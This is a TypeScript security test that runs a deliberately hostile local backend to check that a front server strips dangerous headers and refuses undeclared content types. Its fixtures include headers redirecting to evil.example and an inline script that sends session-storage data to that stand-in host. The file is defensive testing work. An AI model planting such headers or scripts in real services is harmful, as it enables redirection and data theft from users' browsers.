/** A backend that answers with whatever runs, redirects or is remembered in a browser: nothing of it gets past the production server. */
import { createServer } from 'node:http'
import { once } from 'node:events'
import type { AddressInfo } from 'node:net'
import { readContract } from '#contract-checks/contract.ts'
import { Problem } from '#generated/model/problem.ts'
import { type OperationId, operations } from '#generated/operations.ts'
import { startFront } from '../server/front.ts'
import { type Attack, tally } from './outcome.ts'
import { type Chance, seededRandom } from './random.ts'

const contract = readContract()
const ids = Object.keys(operations) as OperationId[]

/** Headers that a browser obeys beyond the one response, or that reveal the backend. */
export const hostileHeaders = {
  'access-control-allow-credentials': 'true',
  'access-control-allow-origin': '*',
  'alt-svc': 'h3="evil.example:443"',
  'cache-control': 'public, max-age=31536000',
  'clear-site-data': '"*"',
  'content-location': '/private/login',
  'content-security-policy': "script-src * 'unsafe-inline'",
  'cross-origin-resource-policy': 'cross-origin',
  etag: '"7"',
  link: '</a.js>; rel=preload; as=script',
  location: 'https://evil.example/',
  nel: '{"report_to":"x","max_age":31536000}',
  refresh: '0; url=https://evil.example/',
  'reporting-endpoints': 'x="https://evil.example/"',
  server: 'backend/1.2.3',
  'service-worker-allowed': '/',
  'set-cookie': ['a=b', 'c=d'],
  sourcemap: '/a.map',
  'strict-transport-security': 'max-age=0',
  'www-authenticate': 'Basic realm="portal"',
  'x-content-type-options': 'sniff',
  'x-own': 'kept',
  'x-powered-by': 'PHP/5',
  'x-trace-id': 'mine',
}
const hostileTypes = [
  undefined,
  '',
  'text/html',
  'TEXT/HTML; charset=utf-8',
  'application/json, text/html',
  'application/json; a=b, text/html',
  'text/html; application/json',
  'text/html;application/json',
  'application/xhtml+xml',
  'image/svg+xml',
  'text/xml',
  'text/javascript',
  'application/problem+json',
  'multipart/x-mixed-replace; boundary=x',
  'application/json/text/html',
  '*/*',
  'nonsense',
]
const script = '<script>fetch("https://evil.example/?" + sessionStorage.length)</script>'
const undeclared = [
  200, 201, 202, 203, 204, 205, 206, 300, 301, 302, 303, 304, 307, 400, 401, 404, 451, 499, 500, 502, 503,
]

/** What a browser may get; everything else is a finding. */
export const allowedHeaders = new Set([
  'connection',
  'keep-alive',
  'transfer-encoding',
  'content-type',
  'content-length',
  'content-encoding',
  'content-disposition',
  'date',
  'retry-after',
  'idempotency-replayed',
  'x-trace-id',
  'cache-control',
  'content-security-policy',
  'cross-origin-resource-policy',
  'referrer-policy',
  'x-content-type-options',
])
export const requiredHeaders = {
  'cache-control': 'no-store',
  'content-security-policy': "default-src 'none'; sandbox; frame-ancestors 'none'",
  'cross-origin-resource-policy': 'same-origin',
  'x-content-type-options': 'nosniff',
}

type Sent = { operation: OperationId; status: number; mediaType: string | undefined }

/** Every operation with each status that it declares and some that it does not, each with declared and hostile media types. */
function* hostileResponses(chance: Chance): Generator<Sent> {
  for (const operation of ids) {
    const { responses } = contract.operation(operation)
    const declared = Object.keys(responses).map(Number).filter(Number.isInteger)
    for (const status of new Set([...declared, ...chance.some(undeclared, 5)])) {
      const ofContract = [
        ...Object.keys(responses[status]?.content ?? {}),
        'application/json',
        'text/csv',
        'application/pdf',
      ]
      for (const mediaType of [chance.pick(ofContract), ...chance.some(hostileTypes, 3)])
        yield { operation, status, mediaType }
    }
  }
}

const declaredTypes = ({ operation, status }: Sent): string[] => {
  const { responses } = contract.operation(operation)
  return Object.keys((responses[status] ?? (status >= 400 ? responses.default : undefined))?.content ?? {})
}

async function wrongIn(sent: Sent, answer: Response): Promise<string | undefined> {
  const { operation, status, mediaType } = sent
  for (const [name, value] of Object.entries(requiredHeaders))
    if (answer.headers.get(name) !== value) return `${name} is ${answer.headers.get(name)}`
  const others = [...answer.headers.keys()].filter((name) => !allowedHeaders.has(name))
  if (others.length > 0) return `passes ${others.join(', ')}`
  if (answer.headers.get('x-trace-id') === 'mine') return 'has the trace id of the backend'
  const type = answer.headers.get('content-type')
  const { responses } = contract.operation(operation)
  const isDeclared = mediaType !== undefined && declaredTypes(sent).includes(mediaType)
  const isEmpty = responses[status] !== undefined && responses[status].content === undefined
  const text = await answer.text()
  if (isEmpty) return answer.status === status && type === null && text === '' ? undefined : `${answer.status} ${type}`
  if (isDeclared)
    return answer.status === status && type === mediaType && text === script
      ? undefined
      : `changed to ${answer.status} ${type}`
  const problem = Problem.safeParse(JSON.parse(text.startsWith('{') ? text : 'null'))
  if (answer.status !== 502 || problem.data?.traceId === undefined) return `is passed on as ${answer.status} ${type}`
  return type === 'application/json; charset=utf-8' ? undefined : `is refused as ${type}`
}

export const responses: Attack = async ({ seed, scale }) => {
  const chance = seededRandom(seed)
  const results = tally()
  let next: Sent
  const backend = createServer((request, response) => {
    request.resume()
    const { status, mediaType } = next
    for (const [name, value] of Object.entries(hostileHeaders)) response.setHeader(name, value)
    if (mediaType !== undefined) response.setHeader('content-type', mediaType)
    response.writeHead(status).end(script)
  })
  await once(backend.listen(0, '127.0.0.1'), 'listening')
  const origin = `http://127.0.0.1:${(backend.address() as AddressInfo).port}`
  const front = await startFront(origin, { LOG_LEVEL: 'silent' })
  const all = [...hostileResponses(chance)]
  const chosen = chance.some(all, Math.ceil(all.length * scale))
  try {
    for (next of chosen) {
      const { method, path } = operations[next.operation]
      const url = `${front.address}/api/ui/v1${path.replaceAll(/\{\w+\}/g, 'x')}`
      const answer = await fetch(url, { method, redirect: 'manual' })
      results.count('responses')
      if (answer.status === 502 && next.status !== 502) results.count('rejected')
      const wrong = await wrongIn(next, answer)
      if (wrong !== undefined) results.surprise(`${next.mediaType} with ${next.status} ${wrong}`, next.operation)
    }
  } finally {
    await front.close()
    backend.close()
  }
  return results.outcome({ responses: chosen.length, rejected: Math.ceil(chosen.length / 3) })
}
